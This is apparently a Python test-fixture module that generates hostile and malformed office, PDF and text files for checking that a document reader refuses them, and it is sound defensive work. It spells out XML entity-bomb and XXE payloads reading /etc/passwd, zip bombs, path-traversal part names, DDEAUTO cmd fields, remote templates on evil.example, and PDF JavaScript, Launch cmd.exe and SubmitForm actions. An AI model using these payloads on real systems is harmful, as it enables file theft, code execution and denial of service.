"""Makes hostile and odd files: bombs, XML attacks, lying containers, active content, wrong kinds and encodings.

``HOSTILE`` must be refused with the code given; ``ODD`` may be read or refused, but nothing else may happen.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.readers.pdf_files import PdfPage, path_with, pdf, pdf_of_streams
from tests.readers.word_files import NAMESPACES, OFFICE, PACKAGE, docx, p, parts, write

MIB = 1 << 20
DOCUMENT = "word/document.xml"
SHEET = "xl/worksheets/sheet1.xml"
SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
Maker = Callable[[Path], Path]


def word_with(name: str, content: str | bytes) -> Maker:
    """A .docx with one part added or replaced."""
    return lambda path: write(path, parts(p("正文")) | {name: content})


def document_with(before: str, inside: str) -> Maker:
    """A .docx whose document part has ``before`` in front of its root and ``inside`` in its only paragraph."""
    text = f"{before}<w:document {NAMESPACES}><w:body>{p(inside)}</w:body></w:document>"
    return word_with(DOCUMENT, text)


def relation(kind: str, target: str) -> Maker:
    """A .docx that points outside."""
    rels = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="x" Type="{OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return word_with("word/_rels/settings.xml.rels", rels)


def raw(data: bytes) -> Maker:
    """A file of these bytes."""

    def make(path: Path) -> Path:
        path.write_bytes(data)
        return path

    return make


def bomb(name: str, start: bytes, filling: bytes, megabytes: int, end: bytes) -> Maker:
    """A .docx with a part that expands to ``megabytes``."""

    def make(path: Path) -> Path:
        sound = write(path, parts(p("正文")))
        with (
            zipfile.ZipFile(sound, "a", zipfile.ZIP_DEFLATED) as archive,
            archive.open(name, "w", force_zip64=True) as part,
        ):
            part.write(start)
            for _ in range(megabytes):
                part.write(filling * (MIB // len(filling)))
            part.write(end)
        return path

    return make


def many_parts(path: Path) -> Path:
    """60,000 empty parts."""
    with zipfile.ZipFile(write(path, parts(p("正文"))), "a") as archive:
        for number in range(60_000):
            archive.writestr(f"word/media/{number}.png", b"")
    return path


def twice(path: Path) -> Path:
    """Two parts whose names differ in case only."""
    return write(path, parts(p("正文")) | {"word/Document.xml": "<a/>"})


def changed(change: Callable[[bytearray, int], None]) -> Maker:
    """A .docx whose directory entry of the document part is changed by hand."""

    def make(path: Path) -> Path:
        data = bytearray(docx(path, p("正文" * 5000)).read_bytes())
        at = data.find(b"PK\x01\x02")
        while data[at + 46 : at + 46 + len(DOCUMENT)] != DOCUMENT.encode():
            at = data.find(b"PK\x01\x02", at + 4)
        change(data, at)
        path.write_bytes(data)
        return path

    return make


def lying_size(data: bytearray, at: int) -> None:
    """The directory states ten bytes."""
    data[at + 24 : at + 28] = struct.pack("<L", 10)


def encrypted_flag(data: bytearray, at: int) -> None:
    """The directory says that the part is encrypted."""
    data[at + 8] |= 1


def strange_method(data: bytearray, at: int) -> None:
    """The directory names a compression that office files never use."""
    data[at + 10 : at + 12] = struct.pack("<H", 14)


def wrong_sum(data: bytearray, at: int) -> None:
    """The directory states another checksum."""
    data[at + 16 : at + 20] = b"\x01\x02\x03\x04"


def truncated(maker: Maker, share: float) -> Maker:
    """The first ``share`` of a sound file."""

    def make(path: Path) -> Path:
        data = maker(path).read_bytes()
        path.write_bytes(data[: int(len(data) * share)])
        return path

    return make


def sheet(rows: str, dimension: str = "A1") -> Maker:
    """An .xlsx with these rows."""
    office = f"{OFFICE}"
    content = {
        "[Content_Types].xml": (
            f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.'
            'openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{office}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{SPREADSHEET}" xmlns:r="{office}"><sheets><sheet name="清单" sheetId="1" r:id="r1"/>'
            "</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{office}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        SHEET: (
            f'<worksheet xmlns="{SPREADSHEET}"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
        ),
    }
    return lambda path: write(path, content)


def text_cell(reference: str, text: str) -> str:
    """A cell of a sheet."""
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


def pdf_file(catalog: str = "", *objects: str, trailer: str = "") -> Maker:
    """A PDF of one page with more in its catalogue or among its objects."""
    page = PdfPage().line("关于申报项目的通知", 0)
    return lambda path: pdf(path, [page], catalog=catalog, objects=objects, trailer=trailer)


def object_stream(content: bytes) -> Maker:
    """A PDF with compressed objects."""
    packed = zlib.compress(content, 9)
    body = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    bodies = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 0 /Kids [] >>"}
    return lambda path: path_with(path, bodies | {3: body % (len(packed), packed)}, "")


def flate_bomb(path: Path) -> Path:
    """A PDF whose page expands to 256 MB of drawing."""
    inner = zlib.compressobj(9)
    packed = b"".join(inner.compress(b"0 0 m 9 9 l S \n" * 69_905) for _ in range(256)) + inner.flush()
    made = pdf_of_streams(path, [packed])
    path.write_bytes(made.read_bytes().replace(b"<< /Length", b"<< /Filter /FlateDecode /Length"))
    return path


def deep_markup(depth: int) -> str:
    """Runs nested ``depth`` times."""
    return f"<w:document {NAMESPACES}><w:body><w:p>{'<w:r>' * depth}{'</w:r>' * depth}</w:p></w:body></w:document>"


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY l "lol">'
    + "".join(f'<!ENTITY l{n} "{10 * ("&l%s;" % (n - 1 or ""))}">' for n in range(1, 10))
    + "]>"
)
QUADRATIC = f'<!DOCTYPE q [<!ENTITY a "{"A" * 100_000}">]>'
SECRET = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
FETCHED = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd" [<!ENTITY e SYSTEM "http://127.0.0.1:9/x">]>'
MACRO_TYPES = (
    f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
FIELD = "<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd /k</w:instrText></w:r>"


def ole(*streams: str) -> bytes:
    """An OLE container with these stream names in its directory."""
    return OLE_HEAD + bytes(600) + b"".join((name + "\0").encode("utf-16-le") + bytes(64) for name in streams)


def zip_of(**content: bytes) -> bytes:
    """A plain archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in content.items():
            archive.writestr(name.replace("__", "/"), data)
    return buffer.getvalue()


HOSTILE: dict[str, tuple[Maker, str]] = {
    "laughs.docx": (document_with(LAUGHS, "&l9;"), "xml_dtd"),
    "quadratic.docx": (document_with(QUADRATIC, "&a;" * 5000), "xml_dtd"),
    "secret-file.docx": (document_with(SECRET, "&e;"), "xml_dtd"),
    "fetched.docx": (document_with(FETCHED, "&e;"), "xml_dtd"),
    "secret-in-core.docx": (word_with("docProps/core.xml", SECRET + "<a>&e;</a>"), "xml_dtd"),
    "secret-in-odd-part.docx": (word_with("word/theme.bin", SECRET + "<a>&e;</a>"), "xml_dtd"),
    "utf16-definition.docx": (word_with(DOCUMENT, (SECRET + "<a>&e;</a>").encode("utf-16")), "xml_encoding"),
    "utf16-without-mark.docx": (word_with(DOCUMENT, "<a/>".encode("utf-16-le")), "xml_encoding"),
    "utf7.docx": (word_with(DOCUMENT, '<?xml version="1.0" encoding="utf-7"?><a/>'), "xml_encoding"),
    "deep.docx": (word_with(DOCUMENT, deep_markup(100_000)), "xml_depth"),
    "just-too-deep.docx": (word_with(DOCUMENT, deep_markup(260)), "xml_depth"),
    "long-tag.docx": (bomb("word/x.xml", b"<a b='", b"x", 8, b"'/>"), "zip_bomb"),
    "text-bomb.docx": (bomb("word/x.xml", b"<a>", b" ", 300, b"</a>"), "zip_bomb"),
    "picture-bomb.docx": (bomb("word/media/i.png", b"", b"\0", 300, b""), "zip_bomb"),
    "many-parts.docx": (many_parts, "too_many_parts"),
    "same-name.docx": (twice, "duplicate_part"),
    "parent-path.docx": (word_with("../../etc/cron.d/x", "x"), "bad_part_name"),
    "absolute-path.docx": (word_with("/etc/passwd", "x"), "bad_part_name"),
    "drive-path.docx": (word_with("C:/x", "x"), "bad_part_name"),
    "lying-size.docx": (changed(lying_size), "damaged"),
    "encrypted-part.docx": (changed(encrypted_flag), "encrypted"),
    "strange-method.docx": (changed(strange_method), "damaged"),
    "wrong-sum.docx": (changed(wrong_sum), "damaged"),
    "macro.docx": (word_with("word/vbaProject.bin", OLE_HEAD), "macro"),
    "macro-type.docx": (word_with("[Content_Types].xml", MACRO_TYPES), "macro"),
    "activex.docx": (word_with("word/activeX/activeX1.bin", b"x"), "macro"),
    "ole.docx": (word_with("word/embeddings/oleObject1.bin", OLE_HEAD), "ole_object"),
    "program.docx": (word_with("word/embeddings/setup.exe", b"MZ"), "ole_object"),
    "template-on-a-server.docx": (
        relation("attachedTemplate", "http://evil.example/t.dotm"),
        "remote_template",
    ),
    "template-on-a-share.docx": (relation("attachedTemplate", "\\\\evil\\t.dotm"), "remote_template"),
    "template-by-file-share.docx": (relation("attachedTemplate", "file://evil/t.dotm"), "remote_template"),
    "object-on-a-server.docx": (relation("oleObject", "http://evil.example/x"), "remote_template"),
    "frame-on-a-server.docx": (relation("frame", "https://evil.example/"), "remote_template"),
    "dde.docx": (lambda path: docx(path, p(runs=FIELD)), "dde"),
    "dde-simple.docx": (lambda path: docx(path, p(runs='<w:fldSimple w:instr="DDEAUTO c"/>')), "dde"),
    "not-well-formed.docx": (word_with(DOCUMENT, "<a><b></a>"), "damaged"),
    "empty-document-part.docx": (word_with(DOCUMENT, ""), "damaged"),
    "no-text.docx": (lambda path: docx(path, p()), "empty"),
    "cut-in-half.docx": (truncated(lambda path: docx(path, p("正文")), 0.5), "archive"),
    "encrypted.docx": (raw(ole("EncryptionInfo", "EncryptedPackage")), "encrypted"),
    "macro.doc": (raw(ole("WordDocument", "_VBA_PROJECT")), "macro"),
    "packed-program.doc": (raw(ole("WordDocument", "\x01Ole10Native")), "ole_object"),
    "macro.xls": (raw(ole("Workbook", "_VBA_PROJECT")), "macro"),
    "far-cell.xlsx": (
        sheet(
            f'<row r="1">{text_cell("A1", "甲")}</row><row r="1048576">{text_cell("XFD1048576", "乙")}</row>'
        ),
        "sheet_too_large",
    ),
    "wide.xlsx": (
        sheet(f'<row r="1">{text_cell("A1", "甲")}{text_cell("XFD1", "乙")}</row>'),
        "sheet_too_large",
    ),
    "shared-strings-bomb.xlsx": (bomb("xl/sharedStrings.xml", b"<a>", b"x", 300, b"</a>"), "zip_bomb"),
    "script.pdf": (pdf_file("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "pdf_active"),
    "script-names.pdf": (pdf_file("/Names << /JavaScript 9 0 R >>"), "pdf_active"),
    "escaped-script.pdf": (pdf_file("/OpenAction << /S /Java#53cript /JS (x) >>"), "pdf_active"),
    "launch.pdf": (pdf_file("", "<< /Type /Action /S /Launch /F (cmd.exe) >>"), "pdf_active"),
    "attached-file.pdf": (pdf_file("/Names << /EmbeddedFiles << /Names [] >> >>"), "pdf_active"),
    "attached-without-type.pdf": (pdf_file("", "<< /F (a.exe) /EF << /F 9 0 R >> >>"), "pdf_active"),
    "submit.pdf": (pdf_file("", "<< /S /SubmitForm /F (http://evil.example) >>"), "pdf_active"),
    "hidden-script.pdf": (object_stream(b"4 0 << /S /JavaScript /JS (x) >>"), "pdf_active"),
    "hidden-bomb.pdf": (object_stream(b"0 " * (25 * MIB)), "zip_bomb"),
    "encrypted.pdf": (pdf_file(trailer="/Encrypt << /Filter /Standard /V 1 /R 2 >>"), "encrypted"),
    "many-pages.pdf": (lambda path: pdf_of_streams(path, [b""] * 2001), "too_many_pages"),
    "empty.txt": (raw(b""), "empty"),
    "blank.txt": (raw(b" \r\n\t\n"), "empty"),
    "zeros-50mb.txt": (raw(bytes(50 * MIB)), "too_large"),
    "zeros-51mb.docx": (raw(bytes(51 * MIB)), "too_large"),
    "zeros-4mb.txt": (raw(bytes(4 * MIB)), "unknown_kind"),
    "noise.txt": (raw(bytes(range(256)) * 40), "text_encoding"),
    "picture.docx": (raw(b"\x89PNG\r\n\x1a\n" + bytes(99)), "picture"),
    "photo.pdf": (raw(b"\xff\xd8\xff\xe0" + bytes(99)), "picture"),
    "letter.doc": (raw(b"{\\rtf1 abc}"), "rtf"),
    "notice.ofd": (raw(zip_of(**{"OFD.xml": b"<a/>"})), "ofd"),
    "ofd-called-word.docx": (raw(zip_of(**{"OFD.xml": b"<a/>"})), "ofd"),
    "list.et": (raw(ole("Workbook")), "et"),
    "slides.pptx": (raw(zip_of(**{"ppt__presentation.xml": b"<a/>"})), "presentation"),
    "files.docx": (raw(zip_of(**{"a.docx": b"x"})), "archive"),
    "text.odt": (raw(zip_of(**{"content.xml": b"<a/>"})), "odf"),
    "binary.xlsx": (raw(zip_of(**{"xl__workbook.bin": b"x"})), "xlsb"),
    "long-line.txt": (raw("通知".encode() * 800_000), "too_long"),
    "many-rows.xlsx": (
        sheet("".join(f'<row r="{n}">{text_cell(f"A{n}", "甲")}</row>' for n in range(1, 15_000))),
        "too_long",
    ),
}

ODD: dict[str, Maker] = {
    "flate-bomb.pdf": flate_bomb,
    "half.pdf": truncated(pdf_file(), 0.6),
    "head-only.pdf": raw(b"%PDF-1.7\n"),
    "loop-of-pages.pdf": lambda path: path_with(
        path, {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] >>"}, ""
    ),
    "local-template.docx": relation("attachedTemplate", "file:///C:\\Users\\a\\t.dotm"),
    "wide-merge.docx": lambda path: docx(
        path,
        f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr>{p("甲")}</w:tc></w:tr></w:tbl>',
    ),
    "style-loop.docx": lambda path: docx(
        path,
        p("正文", '<w:pStyle w:val="A"/>'),
        styles=f'<w:styles {NAMESPACES}><w:style w:styleId="A"><w:basedOn w:val="A"/></w:style></w:styles>',
    ),
    "deep.html": raw(b"<html>" + b"<div>" * 50_000 + "正文".encode()),
    "wide-spans.html": raw("<table><tr><td colspan=99999 rowspan=99999>甲<td>乙</table>".encode()),
    "wrong-charset.html": raw('<html><meta charset="big5"><p>关于申报的通知'.encode()),
    "unknown-charset.html": raw('<html><meta charset="klingon"><p>关于申报的通知'.encode()),
    "entities.html": raw(f"<html>{LAUGHS}<p>正文&l9;&nbsp;&unknown;&#x110000;".encode()),
    "tabs.txt": raw(("\t\n" * 200_000).encode()),
    "odd-utf16.txt": raw("通知".encode("utf-16") + b"\x0a"),
    "surrogates.txt": raw("\ud800通知".encode("utf-16-le", "surrogatepass")),
    "broken.doc": raw(ole("WordDocument") + bytes(9000)),
    "broken.xls": raw(ole("Workbook") + bytes(9000)),
    "lying-dimension.xlsx": sheet(f'<row r="1">{text_cell("A1", "甲")}</row>', "A1:XFD1048576"),
}
